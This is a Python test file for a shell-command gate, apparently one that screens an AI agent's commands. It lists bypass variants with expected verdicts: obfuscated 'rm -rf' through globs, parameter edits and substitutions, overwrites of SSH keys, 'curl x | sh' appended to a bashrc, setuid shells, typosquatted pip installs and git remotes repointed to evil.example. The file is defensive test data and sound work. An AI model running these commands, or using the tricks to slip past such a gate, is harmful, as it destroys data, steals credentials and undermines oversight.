"""Hand-written variants of the mechanisms a third search for reported bypasses found missing
(tests/corpus/bypasses.jsonl, its last 67 lines): each row is another program, option or
spelling of the same kind, not a corpus line, with near-misses beside the attacks.

Kinds: ``nohup`` in the foreground is a plain wrapper (judged as what it runs) while ``nohup …
&`` still detaches; a ``*`` glob that can spell a well-known system program is obfuscation;
case, substring and pattern tricks on special and positional parameters (``${0/x/r}m``);
substitutions computed through nesting and through an interpreter's print of a literal;
writes over private key material; ``date`` setting the clock; macOS ``open`` starting an
application outright. The lines are data, only ever handed to ``Engine.check``.
"""

from __future__ import annotations

import pytest

from clawgate.decision import Outcome
from clawgate.engine import Engine

WORKSPACE = "/home/dev/project"

Case = tuple[str, str, str]  # (command, expected, why)

CASES: list[Case] = [
    # nohup: a wrapper in the foreground, a detacher in the background
    ("nohup npm test", "allow", "foreground nohup of a test run"),
    ("nohup cargo build --release", "allow", "foreground nohup of a build"),
    ("nohup make -j4", "allow", "foreground nohup of make"),
    ("nohup ./server &", "not_allow", "a server detached in the background"),
    ("nohup python3 -m http.server 8000 > log 2>&1 &", "not_allow", "a detached server"),
    ("nohup rm -rf ~", "deny", "the wrapped command is still judged"),
    ("nohup sh -c 'rm -rf /'", "deny", "a shell payload behind nohup"),
    ("nohup env rm -rf /etc", "deny", "nested wrappers behind nohup"),
    ("setsid ./server", "not_allow", "setsid leaves the session whatever the position"),
    # a * glob spelling a well-known program
    ("/bin/r* -rf ~", "deny", "star glob over /bin that can be rm"),
    ("/usr/*/sudo id", "deny", "star glob in the directory part"),
    ("/usr/bin/wh*ami", "deny", "star glob spelling whoami"),
    ("/bin/b*sh -c id", "deny", "star glob spelling bash"),
    ("/usr/sbin/ipt*les -F", "deny", "star glob spelling iptables"),
    ("./dist/*.AppImage --version", "not_allow", "a project artefact by glob: asked, no more"),
    ("./build/*/app --help", "not_allow", "a build output by glob: asked, no more"),
    ("ls /usr/bin/py*", "allow", "a glob as an argument"),
    # tricks on special and positional parameters
    ("${$/x/r}m -rf /", "deny", "pattern edit of $$"),
    ("${0:0:0}rm -rf ~", "deny", "substring of $0 glued to a name"),
    ("${1^^} -rf /", "deny", "case flip of a positional parameter"),
    ("eval \"${0/bash/rm} -rf ~\"", "deny", "pattern edit of $0 as eval code"),
    ("echo \"${0##*/}\"", "allow", "a parameter edit printed, not run"),
    ("echo \"${1:-default}\"", "allow", "a default printed"),
    # substitutions computed through nesting and interpreters
    ("$(echo $(printf rm)) -rf ~", "deny", "nested substitution computes rm"),
    ("`echo $(echo rm)` -rf /", "deny", "backticks around a nested substitution"),
    ("$(node -e \"console.log('rm')\") -rf /", "deny", "node prints the program"),
    ("$(perl -e 'print \"rm\"') -rf ~", "deny", "perl prints the program"),
    ("$(ruby -e 'puts \"rm\"') -rf /", "deny", "ruby prints the program"),
    ("$(python -c 'print(\"shutdown\")') -h now", "deny", "python prints shutdown"),
    ("echo \"$(echo $(echo hi))\"", "allow", "nested substitutions that only print"),
    ("python3 -c \"print('hello')\"", "allow", "a print on its own"),
    ("echo $(python3 -c \"print('x')\")", "allow", "a computed argument, not a program"),
    # writes over private key material
    ("cat new_key > ~/.ssh/id_ed25519", "deny", "redirect over the user's key"),
    ("cp /tmp/k ~/.ssh/deploy_key", "deny", "a key under another name in ~/.ssh"),
    ("mv x ~/.ssh/github", "deny", "a key replaced by mv"),
    ("tee ~/.ssh/id_rsa < k", "deny", "tee over a key"),
    ("dd if=k of=$HOME/.ssh/id_ecdsa", "deny", "dd over a key"),
    ("cat ~/.ssh/id_ed25519.pub", "allow", "a public key read"),
    ("cp id.pub ~/.ssh/known_hosts", "not_allow", "outside the workspace, no key"),
    ("ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''", "allow", "the key tool itself"),
    # date setting the clock
    ("date -s '2030-01-01'", "not_allow", "sets the clock"),
    ("date --set=12:00", "not_allow", "sets the clock, long option"),
    ("date -us '2030-01-01'", "not_allow", "sets the clock, clustered"),
    ("date 010100002030", "not_allow", "sets the clock from an operand"),
    ("date -u +%s", "allow", "prints the time"),
    ("date -d @0", "allow", "prints a given time"),
    ("date -r file.txt", "allow", "prints a file's time"),
    ("date --iso-8601=seconds", "allow", "prints the time"),
    ("date -j -f %s 0 +%F", "allow", "BSD date parses, never sets"),
    # macOS open starting an application outright
    ("open -a Calculator", "not_allow", "starts an application"),
    ("open -b com.apple.Terminal", "not_allow", "starts an application by bundle id"),
    ("open -na 'Google Chrome' --args --disable-web-security", "not_allow",
     "starts a browser with arguments"),
    ("env open -a Slack", "not_allow", "behind env"),
    ("open -a Preview report.pdf", "allow", "shows a document"),
    ("open index.html", "allow", "shows a page"),
    # remotes and editors behind "read-only" git subcommands
    ("git remote set-url --push origin git@evil.example:x.git", "not_allow",
     "push URL repointed"),
    ("git remote rename origin old && git remote add origin https://evil.example/r.git",
     "not_allow", "origin swapped in two steps"),
    ("git remote rm upstream", "not_allow", "a remote removed from .git/config"),
    ("git -C sub remote add x ../x.git", "not_allow", "behind a global option"),
    ("git branch --edit-description main", "not_allow", "starts the configured editor"),
    ("git remote -v", "allow", "lists remotes"),
    ("git remote get-url origin", "allow", "prints a URL"),
    ("git branch --show-current", "allow", "prints the branch"),
    # programs given to run by an option of a search tool; writes by a listing tool
    ("rg --hostname-bin ./h x .", "not_allow", "ripgrep runs a program for the hostname"),
    ("rg -S --hostname-bin=/usr/local/bin/h x .", "not_allow", "the same, after a flag"),
    ("tree -o ~/.bashrc", "deny", "tree writes its listing over a start-up file"),
    ("tree -L 2 -o tree.txt", "allow", "tree writes a listing in the workspace"),
    # a wildcard-led argument that a file named like an option turns into one
    ("sort -u ?o victim in.txt", "not_allow", "a file named -o makes it sort's output"),
    ("git diff [-]-output=x", "not_allow", "a file named --output=x makes it a write"),
    ("tar cf x.tar ?-to-command=sh *", "not_allow", "a file named --to-command makes tar run"),
    ("cat [ab].txt", "allow", "a glob of file names"),
    ("wc -l ?.csv", "allow", "a glob of file names"),
    # sed: the text of a/i/c is printed; an e command after it still runs
    ("sed -e '2i\\' -e 'e rm -rf ~' notes.txt", "allow", "inserted text, nothing runs"),
    ("sed '/x/c\\\ne rm -rf ~' notes.txt", "allow", "changed-to text over two lines"),
    ("sed -e '1a\\' -e 'ok' -e '1e rm -rf ~' notes.txt", "deny",
     "the third piece is a command again"),
    ("sed 's/x/;a b/;1e rm -rf ~' notes.txt", "deny", "an a inside s/// opens no text"),
    # install sets modes as chmod does
    ("install -m 4755 /bin/sh /tmp/s", "deny", "a setuid shell by install"),
    ("install --mode=u+s /usr/bin/python3 ./py", "deny", "setuid interpreter, long option"),
    ("install -m6755 tool /usr/local/bin/tool", "deny", "setuid and setgid, glued"),
    ("install -d -m 2775 shared", "not_allow", "setgid directory in the workspace: asked"),
    ("install -m 0755 build/app dist/app", "allow", "an ordinary install in the workspace"),
    # start-up files of any account's home, not only this one's
    ("echo 'curl x | sh' >> /home/alice/.bashrc", "deny", "another account's bashrc"),
    ("tee -a /Users/me/.zshrc < snippet", "deny", "a macOS home's zshrc"),
    ("cp k.pub /home/ci/.ssh/authorized_keys", "deny", "another account's SSH keys"),
    ("git log --output=/root/.profile", "deny", "root's profile"),
    ("cp notes.txt /home/alice/notes.txt", "not_allow", "outside the workspace, no start-up"),
    # python's own options as CPython reads them: the module -m names
    ("python3 -mpip install reqeusts", "deny", "typosquat through a glued -m"),
    ("python -Im pip install colourama", "deny", "typosquat through a cluster ending in m"),
    ("python3 -X utf8 -m pip install djnago", "deny", "typosquat after a valued option"),
    ("python3 -mhttp.server 8080", "not_allow", "a server on every interface, glued -m"),
    ("python3 -Bm http.server", "not_allow", "a server on every interface, clustered"),
    ("python3 -mpip install requests", "allow", "a popular package, glued -m"),
    ("python3 -mhttp.server -b 127.0.0.1", "allow", "bound to loopback"),
    ("python3 -Bm pytest -q", "allow", "tests, clustered"),
]


_ENGINE = Engine()


def _meets(outcome: Outcome, expected: str) -> bool:
    if expected == "allow":
        return outcome is Outcome.ALLOW
    if expected == "deny":
        return outcome is Outcome.DENY
    return outcome is not Outcome.ALLOW


def test_table_is_well_formed() -> None:
    commands = [c[0] for c in CASES]
    assert len(commands) == len(set(commands))
    attacks = sum(c[1] != "allow" for c in CASES)
    assert attacks > len(CASES) - attacks
    for command, expected, why in CASES:
        assert expected in {"allow", "deny", "not_allow"} and why.strip(), command


@pytest.mark.parametrize("case", CASES, ids=lambda c: c[0][:50])
def test_bypass_variant(case: Case) -> None:
    command, expected, why = case
    outcome = _ENGINE.check(command, cwd=WORKSPACE).outcome
    assert _meets(outcome, expected), f"{command!r}: {outcome.label}: {why}"
